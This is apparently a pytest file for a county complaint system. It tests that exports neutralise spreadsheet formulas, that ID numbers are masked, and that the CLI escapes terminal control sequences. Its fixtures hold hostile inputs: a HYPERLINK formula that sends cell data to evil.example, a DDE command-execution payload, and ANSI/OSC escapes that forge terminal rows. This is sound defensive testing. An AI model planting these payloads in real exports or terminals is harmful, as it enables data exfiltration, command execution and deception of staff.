"""Text from terminals and villagers must not act as code in the county's exports and CLI.

Issue 12: formulas in complaint exports, an ESC that killed the XLSX export,
the XLSX written 0644, ID numbers typed into a complaint's text, and
ANSI/OSC escapes in terminal-supplied strings printed raw on IT staff's
terminal.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from datetime import UTC, datetime
from pathlib import Path

import httpx
import openpyxl
import pytest
from sqlalchemy import Engine

from county.cli import main
from county.complaints import receive_complaint
from county.db import open_county_db
from county.terminals import enroll, new_enrollment_code
from county_server.conftest import auth, enroll_terminal
from sync.protocol import ComplaintSubmission

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DDE = "=cmd|'/c calc'!A0"
ID_NUMBER = "43122619560322079X"


@pytest.fixture
def db(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'county.db'}"


def _file(db: str, *, text: str, name: str, phone: str | None,
          key: str = "hostile-0001") -> str:
    """Enroll a terminal and file one real-name complaint; the terminal id."""
    engine = open_county_db(db)
    now = datetime.now(UTC)
    try:
        code, _ = new_enrollment_code(engine, township="高村镇", village="青山村", now=now)
        terminal = enroll(engine, code, now=now)
        receive_complaint(engine, terminal.terminal_id, ComplaintSubmission(
            idempotency_key=key, ticket_no=f"{terminal.terminal_id}-000001",
            category="other", text=text, anonymous=False, id_hash="c" * 64, name=name,
            phone=phone, created_at=now), now=now)
    finally:
        engine.dispose()
    return terminal.terminal_id


def _export(capsys: pytest.CaptureFixture[str], db: str, out: Path) -> tuple[int, str]:
    code = main(["complaints", "export", "--out", str(out), "--db", db])
    return code, capsys.readouterr().err


def test_xlsx_export_writes_formulas_as_text_and_is_0600(
        capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path) -> None:
    _file(db, text=HYPERLINK, name="@SUM(1+1)", phone=DDE)
    out = tmp_path / "x.xlsx"
    code, err = _export(capsys, db, out)
    assert code == 0, err
    assert out.stat().st_mode & 0o777 == 0o600
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    row = [c for c in sheet[2]]
    by_header = {sheet.cell(1, c.column).value: c for c in row}
    for column, typed in (("内容", HYPERLINK), ("电话", DDE), ("姓名", "@SUM(1+1)")):
        cell = by_header[column]
        assert cell.data_type == "s", f"{column} is stored as {cell.data_type!r}, not text"
        assert cell.value == "'" + typed  # shown as typed, with the apostrophe that says so
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)


def test_csv_export_neutralises_formulas(capsys: pytest.CaptureFixture[str], db: str,
                                         tmp_path: Path) -> None:
    _file(db, text="+1+cmd", name="-2+3", phone=DDE)
    out = tmp_path / "x.csv"
    assert _export(capsys, db, out)[0] == 0
    with out.open(encoding="utf-8-sig", newline="") as stream:
        header, row = list(csv.reader(stream))
    cells = dict(zip(header, row, strict=True))
    assert (cells["内容"], cells["姓名"], cells["电话"]) == ("'+1+cmd", "'-2+3", "'" + DDE)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row)


def test_xlsx_export_survives_control_characters(capsys: pytest.CaptureFixture[str], db: str,
                                                 tmp_path: Path) -> None:
    _file(db, text="bell\x07 and escape\x1b[31m red", name="刘\x1b䶮", phone=None)
    out = tmp_path / "x.xlsx"
    out.write_bytes(b"an earlier export")
    out.chmod(0o644)
    code, err = _export(capsys, db, out)
    assert code == 0, err
    assert "Traceback" not in err
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    values = [c.value for c in sheet[2]]
    assert "刘\\x1b䶮" in values  # kept visibly, not dropped and not fatal
    assert "bell\\x07 and escape\\x1b[31m red" in values
    assert out.stat().st_mode & 0o777 == 0o600


def test_export_refuses_other_suffix_and_writes_nothing(
        capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path) -> None:
    _file(db, text="x", name="y", phone=None)
    out = tmp_path / "x.txt"
    code, err = _export(capsys, db, out)
    assert code == 1 and "--out must end in .csv or .xlsx" in err
    assert not out.exists()


def test_id_number_typed_into_complaint_is_masked(capsys: pytest.CaptureFixture[str], db: str,
                                                  tmp_path: Path) -> None:
    spaced = "431226 19560322 079x"
    _file(db, text=f"我的身份证号{ID_NUMBER}，我妈妈的是{spaced}。", name="刘䶮", phone=None)
    assert main(["complaints", "show", "C0000001", "--db", db]) == 0
    shown = capsys.readouterr().out
    assert "4312**********079X" in shown
    assert ID_NUMBER not in shown and "19560322" not in shown
    out = tmp_path / "x.csv"
    assert _export(capsys, db, out)[0] == 0
    exported = out.read_text(encoding="utf-8-sig")
    assert ID_NUMBER not in exported and "19560322" not in exported
    assert "我的身份证号4312**********079X" in exported
    # masked before it is stored, not only when shown
    engine = open_county_db(db)
    try:
        with engine.connect() as conn:
            stored = conn.exec_driver_sql("SELECT text FROM complaint").scalar_one()
    finally:
        engine.dispose()
    assert "19560322" not in stored


def test_reject_file_neutralises_formulas(capsys: pytest.CaptureFixture[str], db: str,
                                          tmp_path: Path) -> None:
    source = tmp_path / "bad.csv"
    data = Path(__file__).resolve().parents[1] / "data"
    shutil.copy(data / "county_payments_bad.csv", source)
    with source.open("a", encoding="utf-8") as stream:
        stream.write('=HYPERLINK("http://evil.example"),=1+1,@x,-1,+1,=2\n')
    out = tmp_path / "rejects.xlsx"
    # exit code 2: imported, bad rows skipped
    assert main(["import", str(source), "--skip-bad", "--reject-file", str(out),
                 "--db", db]) == 2, capsys.readouterr().err
    assert out.stat().st_mode & 0o777 == 0o600
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    cells = [c for line in sheet.iter_rows() for c in line if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    assert "'=HYPERLINK(\"http://evil.example\")" in [c.value for c in cells]


# --- strings from terminals on IT staff's terminal -------------------------------------------

# A heartbeat that rewrites the screen: return to the line start, erase it, print another
# version (hiding 9.9.9, the sign of a leaked release key) and forge a second terminal row.
FORGED_VERSION = "9.9.9\r\x1b[2K0.2.0\nT00009"
FORGED_READER = "ready\x1b]0;pwned\x07\u202e"


def _terminal_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip()]


def test_forged_heartbeat_is_escaped_in_county_terminals(
        seeded_engine: Engine, seeded_url: str, client: httpx.Client,
        capsys: pytest.CaptureFixture[str]) -> None:
    terminal = enroll_terminal(seeded_engine, client)
    answer = client.post("/api/v1/heartbeat", headers=auth(terminal), json={
        "version": FORGED_VERSION, "uptime_s": 60, "reader": FORGED_READER,
        "printer": "ready", "outbox_depth": 0, "disk_free_bytes": 2**30,
        "update": {"version": "1.0\x1b[8m", "result": "refused", "code": "release.expired",
                   "message": "hidden\x1b[8m\nT00010   高村镇假村  ok",
                   "finished_at": datetime.now(UTC).isoformat()}})
    assert answer.status_code == 200, answer.text
    assert main(["terminals", "--db", seeded_url]) == 0
    out = capsys.readouterr().out
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out), repr(out)
    assert "9.9.9\\r\\x1b[2K0.2.0\\nT00009" in out
    assert "ready\\x1b]0;pwned\\x07\\u202e" in out
    lines = _terminal_lines(out)
    assert lines[0].startswith("id ")
    # one row for the terminal and one for its failed update; no forged T00009/T00010 row
    assert [line.split()[0] for line in lines[1:]] == [terminal["terminal_id"], "update"]
    assert "hidden\\x1b[8m\\nT00010" in lines[2]
    assert main(["terminals", "--json", "--db", seeded_url]) == 0
    raw = capsys.readouterr().out
    assert "\x1b" not in raw and "\u202e" not in raw
    [row] = json.loads(raw)
    assert row["version"] == FORGED_VERSION  # the data itself is kept, only its display


def test_complaint_fields_are_escaped_in_list_and_show(capsys: pytest.CaptureFixture[str],
                                                       db: str) -> None:
    _file(db, text="正文\x1b[2J\x1b[H\n投诉编号 C0000099 已结案", name="刘\x1b]8;;x\x07䶮",
          phone=None)
    for argv in (["complaints", "list"], ["complaints", "show", "C0000001"]):
        assert main([*argv, "--db", db]) == 0
        out = capsys.readouterr().out
        assert "\x1b" not in out and "\x07" not in out, repr(out)
        assert "\\x1b[2J" in out
    assert main(["complaints", "list", "--db", db]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 1  # one complaint, one line
    assert main(["complaints", "show", "C0000001", "--db", db]) == 0
    shown = capsys.readouterr().out.splitlines()
    assert [line.split()[0] for line in shown[:6]] == ["投诉编号", "高村镇", "类别", "实名:",
                                                       "内容:", "答复:"]
    assert len(shown) == 7 and "受理" in shown[6]  # the history: one step


def test_notices_and_replies_are_stored_as_plain_text(capsys: pytest.CaptureFixture[str],
                                                      db: str) -> None:
    _file(db, text="x", name="y", phone=None)
    assert main(["notice", "add", "--kind", "政策", "--title", "标题\x1b]0;x\x07\u202e反",
                 "--body", "<b>正文</b>\r\n第二行\x00", "--db", db]) == 0
    assert main(["complaints", "assign", "C0000001", "--to", "组\x1b[8m", "--db", db]) == 0
    assert main(["complaints", "reply", "C0000001", "--text", "\u202e已\x1b[8m办结 ",
                 "--db", db]) == 0
    capsys.readouterr()
    assert main(["notice", "list", "--json", "--db", db]) == 0
    [notice] = json.loads(capsys.readouterr().out)
    assert notice["title"] == "标题]0;x反"
    engine = open_county_db(db)
    try:
        with engine.connect() as conn:
            body = conn.exec_driver_sql("SELECT body FROM notice").scalar_one()
            reply = conn.exec_driver_sql("SELECT reply_text FROM complaint").scalar_one()
    finally:
        engine.dispose()
    assert body == "<b>正文</b>\n第二行"  # markup stays text: the kiosk shows it literally
    assert reply == "已[8m办结"
